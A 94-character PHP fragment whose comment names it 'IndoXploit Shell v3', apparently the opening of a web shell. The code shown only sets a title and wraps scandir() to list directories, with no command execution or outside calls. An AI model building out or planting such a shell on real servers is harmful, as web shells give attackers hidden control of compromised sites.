<?php
/* IndoXploit Shell v3 */
$title = 'IndoXploit';
function x($d) { return scandir($d); }
